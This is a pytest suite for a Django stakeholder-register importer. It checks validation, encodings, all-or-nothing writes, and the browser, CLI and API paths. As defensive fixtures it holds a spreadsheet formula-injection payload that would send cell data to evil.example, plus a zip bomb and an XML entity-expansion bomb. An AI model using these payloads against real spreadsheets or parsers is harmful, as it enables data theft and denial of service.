"""Importing a stakeholder register: every problem by row and column first, then all or nothing
(or only the valid rows, when asked). Hostile files get a clear error and change nothing."""

import base64
import io
import zipfile

import openpyxl
import pytest
from auditlog.models import LogEntry
from django.core.management import call_command
from django.core.management.base import CommandError

from rapport.stakeholders import importing
from rapport.stakeholders.models import Party, ProjectStakeholder
from rapport.stakeholders.spreadsheets import FileProblem, read_table

pytestmark = pytest.mark.django_db

HEADER = "Name,Organisation,Title,E-mail,Categories,Roles,Customer,Power,Interest,Attitude,Engagement now,Engagement needed\n"


def plan(world, content: bytes, project=True):
    table = read_table(content, max_bytes=10 * 1024 * 1024)
    return importing.plan_import(
        org=world.acme, project=world.alpha if project else None, table=table
    )


def apply(world, content: bytes, project=True, only_valid=False):
    return importing.apply_import(
        actor=world.manager,
        org=world.acme,
        project=world.alpha if project else None,
        plan=plan(world, content, project),
        only_valid=only_valid,
    )


def xlsx(rows) -> bytes:
    wb = openpyxl.Workbook()
    for row in rows:
        wb.active.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_a_valid_csv_creates_parties_and_project_stakeholders(world):
    content = (
        HEADER
        + "Sofia Reyes,Northwind,Sales Director,sofia@northwind.example,Sponsor; Executive,Sponsor,No,5,4,Champion,Supportive,Leading\n"
        + "Sales team,Northwind,,,End user,Senior user; End user,Yes,3,5,Supporter,Neutral,Supportive\n"
    ).encode()
    result = apply(world, content)
    assert result == {"created": 2, "updated": 0, "unchanged": 0, "skipped": 0}
    sofia = ProjectStakeholder.objects.get(project=world.alpha, party__name="Sofia Reyes")
    assert sofia.roles == ["sponsor"] and not sofia.is_customer and sofia.power == 5
    assert sofia.attitude == "champion" and sofia.engagement_needed == "leading"
    assert sorted(c.name for c in sofia.party.categories.all()) == ["Executive", "Sponsor"]
    sales = ProjectStakeholder.objects.get(project=world.alpha, party__name="Sales team")
    assert sales.is_customer and sales.roles == ["senior_user", "end_user"]


def test_every_problem_is_reported_with_its_row_and_column_and_nothing_is_written(world):
    content = (
        HEADER
        + "Good Person,Acme,,good@acme.example,,,,,,,,\n"
        + ",Acme,,,,,,,,,,\n"  # no name
        + "Bad Values,Acme,,not-an-email,Astronauts,Pilot,maybe,9,x,Grumpy,Bored,\n"
    ).encode()
    before = (Party.objects.count(), LogEntry.objects.count())
    p = plan(world, content)
    problems = {(x.row, x.column) for x in p.problems}
    assert (3, "Name") in problems
    for column in (
        "E-mail",
        "Categories",
        "Roles",
        "Customer",
        "Power",
        "Interest",
        "Attitude",
        "Engagement now",
    ):
        assert (4, column) in problems, column
    assert not p.is_valid and p.counts()["valid"] == 1
    with pytest.raises(importing.ImportRefused, match="nothing was imported"):
        importing.apply_import(actor=world.manager, org=world.acme, project=world.alpha, plan=p)
    assert (Party.objects.count(), LogEntry.objects.count()) == before


def test_only_the_valid_rows_are_imported_when_the_user_asks(world):
    content = (HEADER + "Good Person,Acme,,,,,,,,,,\nBad Person,Acme,,,,,,9,,,,\n").encode()
    result = apply(world, content, only_valid=True)
    assert result["created"] == 1 and result["skipped"] == 1
    assert list(Party.objects.filter(org=world.acme).values_list("name", flat=True)) == [
        "Good Person"
    ]


def test_a_row_pointing_to_an_invalid_row_is_skipped_with_it(world):
    content = b"Name,Reports to,Power\nBoss,,9\nWorker,Boss,3\nLoner,,2\n"
    p = plan(world, content)
    assert [r.name for r in importing.valid_only(p)] == ["Loner"]


def test_export_then_import_changes_nothing(world, sample):
    for fmt in ("csv", "xlsx"):
        content, _, _ = importing.export_file(org=world.acme, project=world.alpha, fmt=fmt)
        before = LogEntry.objects.count()
        result = apply(world, content)
        assert result["created"] == 0 and result["updated"] == 0, fmt
        assert result["unchanged"] == ProjectStakeholder.objects.filter(project=world.alpha).count()
        assert LogEntry.objects.count() == before


def test_an_edited_export_updates_the_matching_parties(world, sample):
    content, _, _ = importing.export_file(org=world.acme, project=world.alpha, fmt="csv")
    edited = content.decode("utf-8-sig").replace("Sam Sponsor,", "Samantha Sponsor,").encode()
    result = apply(world, edited)
    assert result["updated"] == 1
    assert Party.objects.filter(org=world.acme, name="Samantha Sponsor").exists()
    assert not Party.objects.filter(org=world.acme, name="Sam Sponsor").exists()


def test_formula_cells_are_kept_as_text_and_neutralised_on_export(world):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    quoted = evil.replace('"', '""')
    content = f'Name,Notes,Title\n"{quoted}",@SUM(1+1),-2+3\n'.encode()
    apply(world, content)
    party = Party.objects.get(org=world.acme)
    assert party.name == evil and party.notes == "@SUM(1+1)" and party.title == "-2+3"
    csv_bytes, _, _ = importing.export_file(org=world.acme, project=world.alpha, fmt="csv")
    assert "'=HYPERLINK(" in csv_bytes.decode("utf-8-sig")
    assert ",'@SUM(1+1)," in csv_bytes.decode("utf-8-sig") or "'@SUM(1+1)" in csv_bytes.decode(
        "utf-8-sig"
    )
    xlsx_bytes, _, _ = importing.export_file(org=world.acme, project=world.alpha, fmt="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes)).active
    cells = [
        c
        for row in sheet.iter_rows()
        for c in row
        if c.value and str(c.value).lstrip("'").startswith(("=", "@", "-2"))
    ]
    assert cells and all(c.data_type == "s" and str(c.value).startswith("'") for c in cells)
    # ... and the round trip gives the same text back.
    assert apply(world, xlsx_bytes)["updated"] == 0
    assert Party.objects.get(org=world.acme).name == evil


def test_a_formula_in_an_uploaded_xlsx_is_read_as_its_text_never_evaluated(world):
    content = xlsx([["Name", "Notes"], ["Eve", "=1+1"], ['=HYPERLINK("http://x.example")', "x"]])
    apply(world, content)
    assert Party.objects.get(name="Eve").notes == "=1+1"
    assert Party.objects.filter(name__startswith="=HYPERLINK").exists()


def test_semicolon_csv_with_a_bom_is_read(world):
    content = "\ufeffName;Organisation;Power;Interest\nZoë Müller;Bäckerei;4;2\n".encode()
    p = plan(world, content)
    assert p.is_valid and "semicolons" in " ".join(p.notes)
    apply(world, content)
    assert ProjectStakeholder.objects.get(party__name="Zoë Müller").power == 4


def test_tab_separated_utf16_from_excel_is_read(world):
    content = "Name\tOrganisation\r\nÅsa Öberg\tSkola\r\n".encode("utf-16")
    apply(world, content)
    assert Party.objects.filter(name="Åsa Öberg").exists()


def test_a_windows_1252_file_is_read_with_a_note(world):
    content = "Name,Organisation\nRené Dubois,Crédit\n".encode("cp1252")
    p = plan(world, content)
    assert p.is_valid and any("Windows-1252" in n for n in p.notes)
    apply(world, content)
    assert Party.objects.filter(name="René Dubois", organisation="Crédit").exists()


def test_bytes_no_encoding_explains_are_refused_with_a_clear_error(db):
    with pytest.raises(FileProblem, match="not UTF-8"):
        read_table(b"Name\nab\x81\x8d\xc3\n", max_bytes=1000)


@pytest.mark.parametrize(
    "content, message",
    [
        (b"", "empty"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "97-2003"),
        (b"PK\x03\x04garbage", "damaged"),
        (b"%PDF-1.7 ...", "not a spreadsheet"),
        (b"\x00\x01\x02" * 100, "not a spreadsheet"),
        (b'Name,Notes\n"unterminated,\x00\n', "binary"),
    ],
)
def test_files_that_are_not_registers_get_a_clear_error(db, content, message):
    with pytest.raises(FileProblem, match=message):
        read_table(content, max_bytes=10_000)


def test_a_file_without_a_name_column_is_refused(world):
    p = plan(world, b"Organisation,Title\nAcme,Boss\n")
    assert not p.is_valid and "No Name column" in p.problems[0].message


def test_a_title_line_above_the_header_is_skipped(world):
    p = plan(
        world,
        b"Stakeholder register - Project Alpha\n\nStakeholder,Company,Influence\nAda,Acme,4\n",
    )
    assert p.is_valid and p.rows[0].name == "Ada" and p.rows[0].stakeholder_fields["power"] == 4


def test_a_zip_bomb_is_refused_before_it_is_opened(db):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", "0" * (300 * 1024 * 1024))
    with pytest.raises(FileProblem, match="expands to|zip bomb"):
        read_table(out.getvalue(), max_bytes=10 * 1024 * 1024)


def test_an_xml_entity_bomb_in_an_xlsx_is_refused(db):
    content = xlsx([["Name"], ["Ada"]])
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>'
    )
    with zipfile.ZipFile(out, "w") as z:
        for item in source.infolist():
            data = (
                bomb.encode()
                if item.filename == "xl/worksheets/sheet1.xml"
                else source.read(item.filename)
            )
            z.writestr(item, data)
    with pytest.raises(FileProblem, match="cannot be read"):
        read_table(out.getvalue(), max_bytes=10 * 1024 * 1024)


def test_too_many_rows_are_refused(db):
    content = ("Name\n" + "".join(f"P{i}\n" for i in range(30))).encode()
    with pytest.raises(FileProblem, match="more than 20 rows"):
        read_table(content, max_bytes=10_000, max_rows=20)


def test_the_same_party_twice_in_a_file_is_a_problem(world):
    p = plan(world, b"Name,Organisation\nAda,Acme\nada,ACME\n")
    assert [(x.row, x.column) for x in p.problems] == [(3, "Name")]


def test_an_id_from_another_register_is_not_found(world):
    from rapport.stakeholders import services

    secret = services.party_create(
        actor=world.outsider, org=world.globex, name="Globex secret contact"
    )
    p = plan(world, f"ID,Name\n{secret.pk},Renamed\n".encode())
    assert "No party with this ID" in p.problems[0].message
    assert Party.objects.get(pk=secret.pk).name == "Globex secret contact"


def test_links_resolve_to_rows_of_the_same_file_and_loops_are_refused(world):
    apply(world, b"Name,Reports to,Represents\nWorker,Boss,\nBoss,CIO,\nCIO,,\n")
    assert Party.objects.get(name="Worker").reports_to.name == "Boss"
    assert Party.objects.get(name="Boss").reports_to.name == "CIO"
    p = plan(world, b"Name,Reports to\nCIO,Worker\n")
    assert "loop" in p.problems[0].message


def test_an_unknown_category_names_the_fix(world):
    p = plan(world, b"Name,Categories\nAda,Astronaut\n")
    assert "Unknown category" in p.problems[0].message and "owners can add" in p.problems[0].message


def test_chargeback_with_external_is_refused(world):
    p = plan(world, b"Name,Internal/External,Payment\nAda,External,Chargeback\n")
    assert p.problems[0].column == "Payment" and "internal" in p.problems[0].message


def test_an_organisation_import_ignores_project_columns_with_a_note(world):
    p = plan(world, b"Name,Power\nAda,4\n", project=False)
    assert p.is_valid and any("Project columns" in n for n in p.notes)
    apply(world, b"Name,Power\nAda,4\n", project=False)
    assert Party.objects.filter(name="Ada").exists() and not ProjectStakeholder.objects.exists()


# --- through the web, the CLI and the API ---------------------------------------------------------


def test_the_browser_flow_uploads_previews_and_imports_all(world, client_for):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = client_for(world.manager)
    upload = SimpleUploadedFile("register.csv", b"Name,Power,Interest\nAda,4,5\nBert,2,2\n")
    response = client.post("/o/acme/p/ALPHA/customers/import/", {"file": upload})
    assert response.status_code == 302
    preview = client.get(response["Location"])
    assert b"Import all 2 rows" in preview.content and not Party.objects.exists()
    done = client.post(response["Location"], {"mode": "all"}, follow=True)
    assert b"2 added" in done.content
    assert ProjectStakeholder.objects.filter(project=world.alpha).count() == 2


def test_the_preview_lists_problems_and_offers_only_the_valid_rows(world, client_for):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = client_for(world.manager)
    upload = SimpleUploadedFile("register.csv", b"Name,Power\nAda,4\nBert,seven\n")
    location = client.post("/o/acme/p/ALPHA/customers/import/", {"file": upload})["Location"]
    preview = client.get(location).content.decode()
    assert "Import only the 1 valid row" in preview and "Import all" not in preview
    assert "seven" in preview and "Power" in preview
    # "all" is refused while the file has problems; nothing is written.
    client.post(location, {"mode": "all"})
    assert not Party.objects.exists()
    client.post(location, {"mode": "valid"})
    assert list(Party.objects.values_list("name", flat=True)) == ["Ada"]


def test_a_50_megabyte_upload_gets_a_clear_error_and_writes_nothing(world, client_for, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    client = client_for(world.manager)
    big = b"Name\n" + b"x" * (50 * 1024 * 1024)
    response = client.post(
        "/o/acme/p/ALPHA/customers/import/", {"file": SimpleUploadedFile("big.csv", big)}
    )
    assert response.status_code == 200
    assert b"the limit is 10 MB" in response.content
    assert not Party.objects.exists()
    from rapport.stakeholders.models import RegisterImport

    assert not RegisterImport.objects.filter(filename="big.csv").exists()


def test_the_size_limit_comes_from_the_setting(world, client_for, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.RAPPORT_IMPORT_MAX_BYTES = 100
    client = client_for(world.manager)
    response = client.post(
        "/o/acme/p/ALPHA/customers/import/",
        {"file": SimpleUploadedFile("r.csv", b"Name\n" + b"a" * 200)},
    )
    assert b"the limit is 100 bytes" in response.content


def test_the_cli_imports_and_exports(world, tmp_path, capsys):
    source = tmp_path / "in.csv"
    source.write_bytes(b"Name,Roles,Customer\nAda,Sponsor,No\nBert,End user,Yes\n")
    call_command("register", "import", "--project", "ALPHA", str(source))
    assert ProjectStakeholder.objects.filter(project=world.alpha).count() == 2
    target = tmp_path / "out.xlsx"
    call_command(
        "register", "export", "--project", "acme/ALPHA", "--format", "xlsx", "-o", str(target)
    )
    rows = list(openpyxl.load_workbook(target).active.iter_rows(values_only=True))
    assert rows[0][:2] == ("ID", "Name") and {r[1] for r in rows[1:]} == {"Ada", "Bert"}


def test_the_cli_reports_problems_and_writes_nothing(world, tmp_path, capsys):
    source = tmp_path / "bad.csv"
    source.write_bytes(b"Name,Power\nAda,11\n")
    with pytest.raises(CommandError, match="nothing was imported"):
        call_command("register", "import", "--project", "ALPHA", str(source))
    assert "row 2, Power" in capsys.readouterr().err
    assert not Party.objects.exists()


def test_the_cli_refuses_an_oversized_file_unread(world, tmp_path, settings):
    settings.RAPPORT_IMPORT_MAX_BYTES = 1024
    source = tmp_path / "big.csv"
    source.write_bytes(b"Name\n" + b"x" * 5000)
    with pytest.raises(CommandError, match="limit is 1 KB"):
        call_command("register", "import", "--project", "ALPHA", str(source))


def test_the_api_imports_a_multipart_file_and_json_base64(world, client_for):
    client = client_for(world.manager)
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = client.post(
        f"/api/v1/projects/{world.alpha.pk}/register-import?mode=all",
        {"file": SimpleUploadedFile("r.csv", b"Name\nAda\n")},
    )
    assert response.status_code == 200 and response.json()["result"]["created"] == 1
    body = {
        "filename": "r.csv",
        "content_base64": base64.b64encode(b"Name,Power\nBert,9\n").decode(),
        "mode": "all",
    }
    response = client.post(
        f"/api/v1/projects/{world.alpha.pk}/register-import", body, content_type="application/json"
    )
    assert response.status_code == 400
    assert response.json()["problems"][0] == {
        "row": 2,
        "column": "Power",
        "message": "“9” is not a whole number from 1 to 5.",
        "value": "9",
    }
    assert not Party.objects.filter(name="Bert").exists()


def test_the_api_refuses_an_oversized_multipart_file(world, client_for, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.RAPPORT_IMPORT_MAX_BYTES = 1000
    client = client_for(world.manager)
    response = client.post(
        f"/api/v1/projects/{world.alpha.pk}/register-import?mode=all",
        {"file": SimpleUploadedFile("r.csv", b"Name\n" + b"x" * 5000)},
    )
    assert response.status_code == 400 and "limit" in response.json()["message"]


def test_a_partial_file_changes_only_the_columns_it_has(world, sample):
    from rapport.stakeholders.models import ProjectStakeholder as PS

    before = PS.objects.get(pk=sample["stakeholder_id"])
    result = apply(world, b"Name,Interest\nSales team,1\n")
    after = PS.objects.get(pk=sample["stakeholder_id"])
    assert result["updated"] == 1 and after.interest == 1
    assert (after.power, after.is_customer, after.engagement_now) == (
        before.power,
        before.is_customer,
        before.engagement_now,
    )
    assert list(after.party.categories.all()) == list(before.party.categories.all())


def test_a_truncated_xlsx_is_refused_and_changes_nothing(world):
    content = xlsx([["Name"], ["Ada"]])
    with pytest.raises(FileProblem):
        read_table(content[: len(content) // 2], max_bytes=10_000_000)
    assert not Party.objects.exists()


def test_an_unclosed_quote_is_refused_instead_of_swallowing_the_rest_of_the_file(world, client_for):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from rapport.stakeholders.models import RegisterImport

    content = b'Name,Power\nAda,4\n"Bert,2\nCleo,3\nDan,1\n'
    with pytest.raises(FileProblem, match=r"Row 3 \(line 3\) opens a quote"):
        read_table(content, max_bytes=10_000)
    response = client_for(world.manager).post(
        "/o/acme/p/ALPHA/customers/import/",
        {"file": SimpleUploadedFile("register.csv", content)},
    )
    assert response.status_code == 200 and b"never closed" in response.content
    assert not Party.objects.exists() and not RegisterImport.objects.exists()


def test_a_stray_quote_inside_a_cell_is_still_read_as_text(world):
    p = plan(world, b'Name,Notes\nAda,says "hi" often\n')
    assert p.is_valid and p.rows[0].party_fields["notes"] == 'says "hi" often'


def test_a_line_break_in_a_one_line_column_is_a_problem_of_that_row(world):
    content = xlsx([["Name", "Organisation", "Notes"], ["Ada\nLovelace", "Acme", "two\nlines"]])
    p = plan(world, content)
    assert [(q.row, q.column) for q in p.problems] == [(2, "Name")]
    assert "line breaks" in p.problems[0].message
    # Notes may have several lines.
    assert plan(world, xlsx([["Name", "Notes"], ["Ada", "two\nlines"]])).is_valid


def test_rows_are_numbered_as_a_spreadsheet_shows_them_after_a_cell_with_line_breaks(world):
    p = plan(world, b'Name,Notes,Power\nAda,"two\nlines",4\nBert,,9\n')
    assert [(q.row, q.column) for q in p.problems] == [(3, "Power")]


def test_a_row_failing_while_it_is_written_leaves_nothing_of_the_file_behind(world):
    from rapport.stakeholders import services

    p = plan(world, b"Name,Organisation,Power\nAda,Acme,4\nBert,Acme,2\nCleo,Acme,3\n")
    assert p.is_valid
    # Someone adds Cleo between the preview and the import: row 4 now clashes.
    services.party_create(actor=world.owner, org=world.acme, name="Cleo", organisation="Acme")
    with pytest.raises(importing.ImportRefused, match="Row 4"):
        importing.apply_import(
            actor=world.manager, org=world.acme, project=world.alpha, plan=p, only_valid=False
        )
    assert list(Party.objects.values_list("name", flat=True)) == ["Cleo"]
    assert not ProjectStakeholder.objects.exists()


def test_the_cli_counts_exported_rows_as_records_even_with_line_breaks_in_cells(
    world, tmp_path, capsys
):
    source = tmp_path / "in.csv"
    source.write_bytes(b'Name,Notes\nAda,"first line\nsecond line"\nBert,\n')
    call_command("register", "import", "--project", "ALPHA", str(source))
    target = tmp_path / "out.csv"
    call_command("register", "export", "--project", "ALPHA", "--format", "csv", "-o", str(target))
    assert "(2 rows)" in capsys.readouterr().out
    assert Party.objects.get(name="Ada").notes == "first line\nsecond line"
